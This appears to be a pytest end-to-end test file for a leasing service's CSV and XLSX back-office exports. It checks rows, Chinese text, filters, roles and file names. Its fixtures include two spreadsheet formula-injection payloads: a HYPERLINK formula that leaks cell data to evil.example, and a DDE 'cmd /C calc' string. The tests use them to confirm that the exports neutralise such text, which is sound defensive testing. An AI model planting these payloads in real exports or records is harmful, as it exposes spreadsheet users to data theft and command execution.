"""The five back-office lists as files (`?format=csv|xlsx`), read back as a spreadsheet user would: the same rows
and figures as the JSON answer, Chinese intact, formulas neutralised, the same roles and filters; on memory,
SQLite and PostgreSQL."""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from api.http import exports
from leasecore.staff import Role
from tests.conftest import postgres_schema
from tests.e2e.support import Api, running

SHANGHAI = timezone(timedelta(hours=8))
CSV = "text/csv; charset=utf-8"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CHINESE_NAME = "韩梅梅"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
CHINESE_REASON = "不想要了，谢谢"
FORMULA_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
FINANCE_DAYS = {"start": "2026-01-01", "end": "2026-03-31"}
MONEY = re.compile(r"-?[0-9]+\.[0-9]{2}")
DAY = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")
LISTS = {
    "/v1/admin/orders": "orders",
    "/v1/admin/overdue": "overdue",
    "/v1/admin/collections": "collections",
    "/v1/admin/refunds": "refunds",
}
ROUTES = [*LISTS, "/v1/admin/reports/finance"]
FINANCE = "/v1/admin/reports/finance"


@dataclass
class Books:
    """The service with two orders in collections (one customer named in Chinese, one named as a formula) and two
    paid then cancelled (refunds), one for a reason in Chinese, one for a formula; 25 March 2026 in Shanghai."""

    api: Api
    chinese_order: str
    formula_order: str
    refunded_order: str
    chinese_customer: str

    @property
    def finance(self) -> dict[str, str]:
        return self.api.staff(Role.FINANCE)


@pytest.fixture(scope="module", params=["memory", "sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def books(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Books]:
    if request.param == "postgres":
        with postgres_schema() as url, running(url) as api:
            yield set_up(api)
    else:
        url = "memory:" if request.param == "memory" else f"sqlite:///{tmp_path_factory.mktemp('exports')}/x.db"
        with running(url) as api:
            yield set_up(api)


def set_up(api: Api) -> Books:
    world = api.set_up_world()
    orders = {}
    for name in (CHINESE_NAME, FORMULA_NAME):
        who = api.customer()
        body = api.order_body(world.sku_id)
        body["address"]["name"] = name
        orders[name] = (who, api.leasing(who, body))
    payer = api.customer()
    refunded = api.place(payer, api.order_body(world.sku_id))
    api.pay(payer, refunded["id"], "checkout")
    api.post(f"/v1/orders/{refunded['id']}/cancel", who=payer, json={"reason": FORMULA_REASON})
    assert {r["state"] for r in api.refunds(refunded["id"])} == {"accepted"}
    second = api.customer()
    also_refunded = api.place(second, api.order_body(world.sku_id))
    api.pay(second, also_refunded["id"], "checkout")
    api.post(f"/v1/orders/{also_refunded['id']}/cancel", who=second, json={"reason": CHINESE_REASON})
    assert {r["state"] for r in api.refunds(also_refunded["id"])} == {"accepted"}
    api.move_clock(datetime(2026, 3, 25, 10, tzinfo=SHANGHAI))
    api.post("/v1/admin/jobs/daily", who=api.staff(Role.ADMIN), json={})
    chinese_who, chinese_order = orders[CHINESE_NAME]
    return Books(api, chinese_order["id"], orders[FORMULA_NAME][1]["id"], refunded["id"], str(chinese_who.customer_id))


# Reading the files back.


def as_json(books: Books, path: str, **params: str) -> Any:
    return books.api.get(path, who=books.finance, params={**params})


def download(books: Books, path: str, file_format: str, **params: str) -> Any:
    response = books.api.get(path, who=books.finance, params={**params, "format": file_format})
    assert response.headers["content-type"] == (CSV if file_format == "csv" else XLSX)
    return response


def csv_rows(books: Books, path: str, **params: str) -> list[list[str]]:
    """The CSV file's rows, header first, once its byte order mark is checked and taken off."""
    body = download(books, path, "csv", **params).content
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))


def sheet_rows(books: Books, path: str, **params: str) -> list[list[Cell]]:
    """The XLSX file's cells, header row first."""
    body = download(books, path, "xlsx", **params).content
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert len(workbook.worksheets) == 1
    return [list(cells) for cells in workbook.worksheets[0].iter_rows()]


def flat(item: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """A JSON row as the file's columns: a nested object's fields dotted, a list of strings joined by "; "."""
    columns: dict[str, Any] = {}
    for name, value in item.items():
        if isinstance(value, dict):
            columns.update(flat(value, f"{prefix}{name}."))
        elif isinstance(value, list) and all(isinstance(v, str) for v in value):
            columns[f"{prefix}{name}"] = "; ".join(value)
        elif not isinstance(value, list):
            columns[f"{prefix}{name}"] = value
    return columns


def csv_text(value: Any) -> str:
    """What the contract says a CSV cell holds for a JSON value: its text, and a leading ' before a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = str(value)
    runs = text[:1] in ("=", "+", "-", "@", "\t", "\r")
    number = text.lstrip("-").replace(".", "", 1).isdigit()
    return "'" + text if runs and not number else text


def json_rows(books: Books, path: str, **params: str) -> list[dict[str, Any]]:
    """The JSON answer of a route as the file's rows: an order without its installments and settlement, the finance
    report as its opening, its days and its total."""
    answer = as_json(books, path, **params)
    if path != FINANCE:
        return [flat({k: v for k, v in item.items() if k not in ("installments", "settlement")}) for item in answer]
    names = list(answer["totals"])
    opening = {"day": "opening", **dict.fromkeys(names), "deposits_held": answer["opening_deposits_held"]}
    days = [{"day": day["day"], **day["figures"]} for day in answer["days"]]
    return [opening, *days, {"day": "total", **answer["totals"]}]


def csv_expected(columns: list[str], rows: list[dict[str, Any]]) -> list[list[str]]:
    return [[csv_text(row[name]) for name in columns] for row in rows]


def sheet_value(cell: Cell, expected: Any) -> Any:
    """A cell read back as the JSON value it should hold, once its type is checked: money a number shown with two
    places, a date a date, a count a number, a flag a boolean, the rest text; an empty text an empty cell."""
    value = cell.value
    if expected in (None, ""):
        return expected if value is None else value
    if isinstance(expected, str) and MONEY.fullmatch(expected):
        assert type(value) in (int, float) and cell.number_format == "0.00", (cell, value)
        return f"{Decimal(repr(value)):.2f}"
    if isinstance(expected, str) and DAY.fullmatch(expected):
        assert isinstance(value, datetime) and cell.number_format == "yyyy-mm-dd", (cell, value)
        return value.date().isoformat()
    assert type(value) is type(expected), (cell, value)
    return value


# The rows and figures.


@pytest.mark.parametrize("path", ROUTES)
def test_a_csv_file_holds_the_json_rows_and_figures(books: Books, path: str) -> None:
    params = FINANCE_DAYS if path == FINANCE else {}
    rows = json_rows(books, path, **params)
    assert len(rows) >= 2
    header, *cells = csv_rows(books, path, **params)
    assert header == list(rows[0])
    assert cells == csv_expected(header, rows)


@pytest.mark.parametrize("path", ROUTES)
def test_an_xlsx_file_holds_the_json_rows_and_figures_as_numbers_dates_and_text(books: Books, path: str) -> None:
    params = FINANCE_DAYS if path == FINANCE else {}
    rows = json_rows(books, path, **params)
    header, *cells = sheet_rows(books, path, **params)
    columns = [cell.value for cell in header]
    assert columns == list(rows[0])
    expected = [[row[name] for name in columns] for row in rows]
    assert len(cells) == len(expected)
    assert [
        [sheet_value(cell, value) for cell, value in zip(row, values, strict=True)]
        for row, values in zip(cells, expected, strict=True)
    ] == expected


def test_the_finance_file_adds_up_to_the_report(books: Books) -> None:
    report = as_json(books, FINANCE, **FINANCE_DAYS)
    header, opening, *days, total = csv_rows(books, FINANCE, **FINANCE_DAYS)
    assert (opening[0], total[0]) == ("opening", "total")
    assert [row[0] for row in days] == [day["day"] for day in report["days"]]
    rent = header.index("rent")
    assert sum(Decimal(row[rent]) for row in days) == Decimal(total[rent]) == Decimal(report["totals"]["rent"])
    held = header.index("deposits_held")
    assert Decimal(opening[held]) == Decimal(report["opening_deposits_held"])
    assert Decimal(total[held]) == Decimal(report["deposits_held"]) > 0


def test_chinese_survives_and_text_a_spreadsheet_would_run_is_neutralised(books: Books) -> None:
    header, *tasks = csv_rows(books, "/v1/admin/collections")
    names = {row[header.index("order_id")]: row[header.index("contact_name")] for row in tasks}
    assert names == {books.chinese_order: CHINESE_NAME, books.formula_order: "'" + FORMULA_NAME}
    header, *orders = csv_rows(books, "/v1/admin/orders", status="cancelled")
    assert sorted(row[header.index("reason")] for row in orders) == sorted([CHINESE_REASON, "'" + FORMULA_REASON])

    header_cells, *task_cells = sheet_rows(books, "/v1/admin/collections")
    column = [cell.value for cell in header_cells].index("contact_name")
    by_value = {row[column].value: row[column] for row in task_cells}
    assert set(by_value) == {CHINESE_NAME, FORMULA_NAME}
    kept = by_value[FORMULA_NAME]
    assert (kept.data_type, kept.quotePrefix) == ("s", True)
    assert (by_value[CHINESE_NAME].data_type, by_value[CHINESE_NAME].quotePrefix) == ("s", False)


# Filters, paging, names.


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/v1/admin/orders", {"status": "cancelled"}),
        ("/v1/admin/orders", {"limit": "2", "offset": "1"}),
        ("/v1/admin/overdue", {"customer_id": "chinese"}),
        ("/v1/admin/collections", {"offset": "1"}),
        ("/v1/admin/refunds", {"order_id": "refunded"}),
        ("/v1/admin/refunds", {"order_id": "chinese"}),
        (FINANCE, {"start": "2026-03-01", "end": "2026-03-31"}),
    ],
)
def test_a_file_holds_what_the_same_filters_answer_in_json(books: Books, path: str, params: dict[str, str]) -> None:
    chosen = {"chinese": books.chinese_customer, "refunded": books.refunded_order}
    if path == "/v1/admin/refunds":
        chosen["chinese"] = books.chinese_order
    params = {name: chosen.get(value, value) for name, value in params.items()}
    rows = json_rows(books, path, **params)
    assert rows != json_rows(books, path, **(FINANCE_DAYS if path == FINANCE else {}))
    header, *cells = csv_rows(books, path, **params)
    assert cells == csv_expected(header, rows)
    assert len(sheet_rows(books, path, **params)) == 1 + len(rows)


def test_a_file_holds_every_row_not_one_page_and_reads_the_read_model_a_page_at_a_time(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = json_rows(books, "/v1/admin/orders", limit="200")
    monkeypatch.setattr(exports, "PAGE", 1)
    header, *cells = csv_rows(books, "/v1/admin/orders")
    assert cells == csv_expected(header, rows)
    assert len(sheet_rows(books, "/v1/admin/orders")) == 1 + len(rows) == 5
    assert len(csv_rows(books, "/v1/admin/orders", limit="3", offset="1")) == 1 + 3


@pytest.mark.parametrize("path", ROUTES)
def test_the_file_is_named_for_the_list_and_today_or_the_reported_days(books: Books, path: str) -> None:
    name = f"finance-{FINANCE_DAYS['start']}-{FINANCE_DAYS['end']}" if path == FINANCE else f"{LISTS[path]}-2026-03-25"
    params = FINANCE_DAYS if path == FINANCE else {}
    for file_format in ("csv", "xlsx"):
        disposition = download(books, path, file_format, **params).headers["content-disposition"]
        assert disposition == f'attachment; filename="{name}.{file_format}"'


def test_json_stays_the_default(books: Books) -> None:
    for path in ROUTES:
        assert as_json(books, path, format="json") == as_json(books, path)


# Refusals.


@pytest.mark.parametrize("path", ROUTES)
def test_an_unknown_format_is_400_naming_format(books: Books, path: str) -> None:
    for wrong in ("pdf", "CSV", ""):
        problem = books.api.get(path, 400, who=books.finance, params={"format": wrong})
        assert problem["type"] == "/problems/unsupported-format"
        assert problem["errors"] == [{"field": "format", "message": "must be json (the default), csv or xlsx"}]


@pytest.mark.parametrize(
    ("path", "refused"),
    [
        ("/v1/admin/orders", None),
        ("/v1/admin/overdue", Role.RISK),
        ("/v1/admin/collections", Role.RISK),
        ("/v1/admin/refunds", Role.OPERATOR),
        (FINANCE, Role.OPERATOR),
    ],
)
def test_a_file_is_refused_to_whoever_may_not_read_the_list(books: Books, path: str, refused: Role | None) -> None:
    api = books.api
    who = api.staff(refused) if refused is not None else api.customers[0].headers
    for file_format in ("csv", "xlsx"):
        assert api.get(path, 403, who=who, params={"format": file_format})["type"] == "/problems/forbidden"
        assert api.get(path, 401, params={"format": file_format})["type"] == "/problems/unauthorized"


def test_the_openapi_document_offers_the_format_and_the_files(books: Books) -> None:
    spec = books.api.get("/openapi.json")
    for path in ROUTES:
        operation = spec["paths"][path]["get"]
        (parameter,) = [p for p in operation["parameters"] if p["name"] == "format"]
        assert (parameter["in"], parameter["required"]) == ("query", False)
        assert (parameter["schema"]["enum"], parameter["schema"]["default"]) == (["json", "csv", "xlsx"], "json")
        assert set(operation["responses"]["200"]["content"]) == {"application/json", CSV, XLSX}
        assert "400" in operation["responses"]
    credit_lines = spec["paths"]["/v1/admin/credit-lines"]["get"]
    assert "format" not in {p["name"] for p in credit_lines["parameters"]}
